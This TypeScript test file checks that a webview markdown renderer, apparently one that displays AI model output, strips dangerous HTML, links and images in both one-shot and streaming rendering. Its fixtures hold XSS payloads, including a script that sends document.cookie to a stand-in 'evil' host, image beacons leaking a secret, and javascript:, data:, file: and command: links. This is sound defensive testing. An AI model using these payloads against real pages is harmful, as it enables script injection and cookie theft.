// Model output is hostile. Whatever it contains, the rendered answer holds only our fixed set of elements, no
// event-handler or style attributes, no src at all, and no link that is not http(s).
import * as assert from 'assert';
import { renderMarkdown } from '../../../../src/webview/markdown/renderMarkdown';
import { StreamingMarkdownView } from '../../../../src/webview/markdown/streamingMarkdownView';
import { allElements, createDocument } from '../domHelpers';

const ALLOWED_ELEMENTS = new Set([
  'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'hr', 'br', 'strong', 'em', 'del', 'code',
  'pre', 'a', 'span', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'button', 'svg', 'path',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'class', 'href', 'title', 'start', 'role', 'aria-label', 'aria-hidden', 'focusable', 'viewbox', 'd', 'fill-rule',
  'type', 'data-action', 'data-language',
]);

const HOSTILE: Record<string, string> = {
  scriptTag: 'Hi <script>alert(1)</script> there\n\n<script>\nfetch("https://evil/x?"+document.cookie)\n</script>\n',
  imgOnerror: '<img src=x onerror="alert(1)">\n\ntext <img src=x onerror=alert(1)> inline',
  javascriptLink: '[click](javascript:alert(1)) and [x](JaVaScRiPt:alert(1)) and <javascript:alert(1)>',
  obfuscatedScheme: '[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](&#x6A;avascript:alert(1)) [d]( javascript:alert(1))',
  dataLink: '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscriptLink: '[vb](vbscript:msgbox(1)) [file](file:///etc/passwd) [cmd](command:workbench.action.terminal.new)',
  remoteImage: '![secret](https://evil.example/steal?code=SECRET) and ![x](data:image/png;base64,AAAA)',
  referenceImage: '![leak][r]\n\n[r]: https://evil.example/leak.png',
  iframe: '<iframe src="https://evil.example"></iframe>\n\ninline <iframe srcdoc="<script>alert(1)</script>">',
  svgOnload: '<svg onload=alert(1)><circle r=10 /></svg>\n\ntext <svg><script>alert(1)</script></svg>',
  styleTag: '<style>body { display: none }</style>\n\n<p style="color:red">styled</p>',
  form: '<form action="https://evil"><input name=x><button formaction=javascript:alert(1)>go</button></form>',
  entities: '&lt;script&gt;alert(1)&lt;/script&gt; and &#60;img src=x onerror=alert(1)&#62; and `&lt;b&gt;`',
  linkTitleQuote: '[x](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  htmlInLinkText: '[<img src=x onerror=alert(1)>](https://ok.example)',
  codeLanguage: '```js" onclick="alert(1)\nlet x\n```\n\n```<script>\ncode\n```\n',
  markdownInTable: '| <b onclick=x>a</b> | [l](javascript:x) |\n|---|---|\n| ![i](http://e/i.png) | <img src=x> |\n',
  objectEmbed: '<object data="x.swf"></object><embed src="x.swf"><link rel=stylesheet href=//evil/x.css><meta http-equiv=refresh content="0;url=https://evil">',
};

function assertSafe(container: Element, name: string): void {
  for (const el of allElements(container)) {
    const tag = el.tagName.toLowerCase();
    assert.ok(ALLOWED_ELEMENTS.has(tag), `${name}: unexpected <${tag}>`);
    if (tag === 'svg' || tag === 'path' || tag === 'button') {
      assert.ok(el.closest('.code-block-toolbar'), `${name}: <${tag}> outside our own code toolbar`);
    }
    for (const attr of Array.from(el.attributes)) {
      const attrName = attr.name.toLowerCase();
      assert.ok(!attrName.startsWith('on'), `${name}: event handler attribute ${attrName}`);
      assert.notStrictEqual(attrName, 'style', `${name}: style attribute`);
      assert.notStrictEqual(attrName, 'src', `${name}: src attribute`);
      assert.ok(ALLOWED_ATTRIBUTES.has(attrName), `${name}: unexpected attribute ${attrName}`);
      if (attrName === 'href') assert.match(attr.value, /^https?:\/\//, `${name}: href ${attr.value}`);
    }
  }
}

describe('hostile markdown', () => {
  for (const [name, markdown] of Object.entries(HOSTILE)) {
    it(`${name}: one-shot render holds only allowed elements and attributes`, () => {
      const doc = createDocument();
      const container = doc.createElement('div');
      renderMarkdown(container, doc, markdown);
      assertSafe(container, name);
    });

    it(`${name}: every intermediate streaming state is safe too`, () => {
      const doc = createDocument();
      const container = doc.createElement('div');
      const view = new StreamingMarkdownView(container, doc);
      for (const ch of markdown) {
        view.append(ch);
        view.flush();
        assertSafe(container, `${name} (streaming)`);
      }
      view.finish();
      assertSafe(container, `${name} (finished)`);
    });
  }

  it('shows the hostile text instead of running it', () => {
    const doc = createDocument();
    const container = doc.createElement('div');
    renderMarkdown(container, doc, HOSTILE.scriptTag);
    assert.ok(container.textContent?.includes('<script>alert(1)</script>'));
  });

  it('keeps the text of links it will not open, without making them links', () => {
    const doc = createDocument();
    const container = doc.createElement('div');
    renderMarkdown(container, doc, HOSTILE.javascriptLink);
    assert.strictEqual(container.querySelector('a'), null);
    assert.ok(container.textContent?.includes('click'));
  });

  it('turns images into a placeholder that names them and never loads them', () => {
    const doc = createDocument();
    const container = doc.createElement('div');
    renderMarkdown(container, doc, HOSTILE.remoteImage);
    const placeholders = container.querySelectorAll('.image-placeholder');
    assert.strictEqual(placeholders.length, 2);
    assert.strictEqual(placeholders[0].textContent, '[image: secret]');
    assert.strictEqual(container.querySelector('img'), null);
    assert.strictEqual(placeholders[1].getAttribute('href'), null, 'a data: image is not even a link');
  });

  describe('deeply nested and huge input does not hang or overflow', () => {
    const cases: Record<string, string> = {
      quotes: '> '.repeat(5000) + 'x',
      quotesWithoutSpaces: '>'.repeat(20000) + 'x',
      flatListMarkers: '- '.repeat(5000) + 'x',
      indentedLists: Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n'),
      orderedMarkers: '1. '.repeat(3000) + 'x',
      nestedEmphasis: '*a '.repeat(5000) + 'b' + ' a*'.repeat(5000),
      brackets: '['.repeat(20000) + 'x' + ']'.repeat(20000),
      backticks: '`'.repeat(20000),
      hugeParagraph: 'word '.repeat(100000),
    };
    for (const [name, markdown] of Object.entries(cases)) {
      it(name, () => {
        const doc = createDocument();
        const container = doc.createElement('div');
        renderMarkdown(container, doc, markdown);
        let depth = 0;
        for (let node: Element | null = deepest(container); node && node !== container; node = node.parentElement) depth++;
        assert.ok(depth <= 40, `${name}: DOM nesting ${depth}`);
        assertSafe(container, name);
      });
    }
  });
});

function deepest(root: Element): Element {
  let best = root;
  let bestDepth = 0;
  const walk = (el: Element, depth: number) => {
    if (depth > bestDepth) {
      best = el;
      bestDepth = depth;
    }
    for (const child of Array.from(el.children)) walk(child, depth + 1);
  };
  walk(root, 0);
  return best;
}
